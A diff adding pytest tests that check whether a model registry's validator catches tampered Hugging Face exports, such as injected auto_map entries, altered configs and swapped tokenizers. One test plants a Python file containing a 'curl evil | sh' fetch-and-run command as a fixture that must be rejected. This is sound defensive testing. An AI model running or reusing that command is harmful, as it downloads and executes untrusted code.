@@ -10,6 +10,7 @@ in tests/test_export_hf_fla.py (on CI through Triton's interpreter) and at 7.2B 
 from __future__ import annotations
 
 import ast
+import hashlib
 import json
 import random
 import shutil
@@ -563,3 +564,111 @@ def test_the_card_shows_the_peft_snippet_for_an_exported_adapter(hf_registry, wo
     assert '"peft>=0.21"\n```' in section and f"subfolder={json.dumps(f'{name}/hf')}" in section
     assert f"PeftModel.from_pretrained(model, repo, subfolder={json.dumps(export.path)}).merge_and_unload()" in section
     assert f"### Transformers (`{name}/hf`)" in card and f"### Transformers (`{export.path}" not in card
+
+
+# ----------------------------------------------------------------------------------------------
+# A tampered export fails validate: its small files are re-derived from the source and compared
+
+
+@pytest.fixture(scope="module")
+def exported_template(tmp_path_factory, world_base) -> tuple[Path, str]:
+    """A registry with a sharded full export and a MiSS adapter's PEFT export, built once and copied per case."""
+    from registry.ops.init import init_registry
+
+    tmp = tmp_path_factory.mktemp("exported")
+    root = init_registry(tmp / "reg").root
+    add_base(root, BaseRequest(path=world_base, filename=world_base.name, vocab="rwkv_vocab_v20230424.txt"))
+    full = save_checkpoint(tmp / "rwkv-final.pth", share_storage(make_base_state_dict(TinySpec(**{**WORLD.__dict__, "seed": 5}))))
+    entry = add_weight(root, AddRequest(full, world_base.name[:-4], "full", "v1.0", train_json(tmp / "f.json")))
+    export = export_hf(root, ExportRequest(entry=entry.path, shard_size=SHARD))
+    export_hf(root, ExportRequest(base=world_base.name[:-4], base_file=world_base))
+    adapter = make_adapter_file(tmp / "a.pth", WORLD, sha256_of(world_base), rank=8)
+    miss = add_weight(root, AddRequest(adapter, world_base.name[:-4], "miss", "v2.1", train_json(tmp / "m.json"), run="r8"))
+    export_hf(root, ExportRequest(entry=miss.path))
+    assert validate(root) == []
+    return root, export.path
+
+
+def _edit_json(path: Path, change) -> None:
+    data = json.loads(path.read_text())
+    change(data)
+    path.write_text(json.dumps(data, indent=2) + "\n")
+
+
+def _list_in_export(root: Path, folder: str, name: str) -> None:
+    """List a new file in the export's record and SHA256SUMS, as a careful forger would."""
+    index = json.loads((root / "index.json").read_text())
+    export = next(e for e in index["exports"] if e["path"] == folder)
+    rel = f"{folder}/{name}"
+    export["files"] = sorted([*export["files"], {"path": rel, "sha256": sha256_of(root / rel), "size": (root / rel).stat().st_size}], key=lambda f: f["path"])
+    (root / "index.json").write_text(json.dumps(index, indent=2, ensure_ascii=False) + "\n")
+    write_sums(root)
+
+
+TAMPERS = {
+    "auto_map in config.json": ("config.json", lambda p: _edit_json(p, lambda d: d.update(auto_map={"AutoModelForCausalLM": "modeling_rwkv7.RWKV7ForCausalLM"})), "config.json has 'auto_map'"),
+    "auto_map in tokenizer_config.json": ("tokenizer_config.json", lambda p: _edit_json(p, lambda d: d.update(auto_map={"AutoTokenizer": ["tok.Tok", None]})), "tokenizer_config.json has 'auto_map'"),
+    "changed norm_eps": ("config.json", lambda p: _edit_json(p, lambda d: d.update(norm_eps=1e-3)), "config.json says norm_eps 0.001 where export-hf writes 1e-05"),
+    "changed eos_token_id": ("generation_config.json", lambda p: _edit_json(p, lambda d: d.update(eos_token_id=261)), "generation_config.json says eos_token_id 261 where export-hf writes 0"),
+    "swapped tokenizer.json": ("tokenizer.json", lambda p: p.write_bytes(p.read_bytes().replace(b'"User":', b'"Usr":', 1)), "tokenizer.json is not the tokenizer export-hf writes"),
+    "swapped world vocabulary": ("rwkv_vocab_v20230424.txt", lambda p: p.write_bytes(p.read_bytes().replace(b"'User'", b"'Usr'", 1) + b"65530 'x' 1\n"), "rwkv_vocab_v20230424.txt is not the rwkv package's world vocabulary"),
+    "garbage in tokenizer_config.json": ("tokenizer_config.json", lambda p: p.write_bytes(b"\x00garbage"), "tokenizer_config.json is not the JSON export-hf writes"),
+    "garbage in generation_config.json": ("generation_config.json", lambda p: p.write_text("[1, 2]"), "generation_config.json is not a JSON object"),
+    "a re-pointed weight_map": ("model.safetensors.index.json", lambda p: _edit_json(p, lambda d: d["weight_map"].update({"lm_head.weight": "model-00001-of-00009.safetensors"})), "weight_map does not map each tensor to the shard holding it (e.g. lm_head.weight)"),
+    "a re-ordered config.json": ("config.json", lambda p: p.write_text(json.dumps(dict(reversed(json.loads(p.read_text()).items())), indent=2) + "\n"), "config.json differs from the bytes export-hf writes"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", list(TAMPERS))
+def test_a_tampered_export_fails_validate(exported_template, tmp_path, case):
+    name, tamper, message = TAMPERS[case]
+    root = Path(shutil.copytree(exported_template[0], tmp_path / "reg"))
+    folder = exported_template[1]
+    tamper(root / folder / name)
+    _relisted(root, f"{folder}/{name}")  # index.json and SHA256SUMS agree with the edit
+    found = [p for p in validate(root) if p.code == "export.invalid"]
+    assert len(found) == 1 and found[0].file == folder and message in found[0].message, found
+
+
+def test_a_python_file_in_an_export_fails_validate(exported_template, tmp_path):
+    root = Path(shutil.copytree(exported_template[0], tmp_path / "reg"))
+    folder = exported_template[1]
+    (root / folder / "modeling_rwkv7.py").write_text("import os\nos.system('curl evil | sh')\n")
+    _list_in_export(root, folder, "modeling_rwkv7.py")
+    found = [p for p in validate(root) if p.code == "export.invalid"]
+    assert len(found) == 1 and "lists modeling_rwkv7.py (code that trust_remote_code would run), which export-hf never writes" in found[0].message
+
+
+def test_a_tampered_peft_config_fails_validate(exported_template, tmp_path):
+    root = Path(shutil.copytree(exported_template[0], tmp_path / "reg"))
+    index = Repo.open(root).load_index()
+    folder = next(e.path for e in index.exports if "/miss/" in e.path)
+    _edit_json(root / folder / "adapter_config.json", lambda d: d.update(base_model_name_or_path="someone/else", auto_map={"x": "y"}))
+    _relisted(root, f"{folder}/adapter_config.json")
+    found = [p for p in validate(root) if p.code == "export.invalid" and p.file == folder]
+    assert len(found) == 1 and "adapter_config.json has 'auto_map'" in found[0].message, found
+
+
+def test_a_deeply_nested_config_in_an_export_is_one_line_and_validate_needs_no_torch(exported_template, tmp_path):
+    root = Path(shutil.copytree(exported_template[0], tmp_path / "reg"))
+    folder = exported_template[1]
+    (root / folder / "config.json").write_text("[" * 100_000 + "]" * 100_000)
+    _relisted(root, f"{folder}/config.json")
+    probe = "import atexit, sys; atexit.register(lambda: print('TORCH' if 'torch' in sys.modules else 'NO-TORCH', file=sys.stderr)); from registry.cli import main; main()"
+    result = subprocess.run([sys.executable, "-c", probe, "validate", "-C", str(root)], capture_output=True, text=True, env=user_environment(), timeout=300)
+    assert result.returncode == 1 and "Traceback" not in result.stderr and result.stderr.strip().endswith("NO-TORCH"), result.stderr
+    line = next(line for line in result.stdout.splitlines() if line.startswith("export.invalid"))
+    assert "config.json: arrays and objects nest more than 64 levels deep" in line
+
+
+def test_the_pinned_tokenizer_digest_is_what_export_hf_writes():
+    from registry.hf.expected import TOKENIZER_JSON_SHA256
+    from registry.hf.tokenizer import read_vocab, tokenizer_json, world_vocab_file
+
+    assert hashlib.sha256(tokenizer_json(read_vocab(world_vocab_file()))).hexdigest() == TOKENIZER_JSON_SHA256
+
+
+def test_config_json_shape_fields_are_written_in_shape_keys_order():
+    from registry.hf.mapping import SHAPE_KEYS, fla_plan
+
+    assert tuple(fla_plan(checkpoint_shapes(WORLD)).config) == SHAPE_KEYS
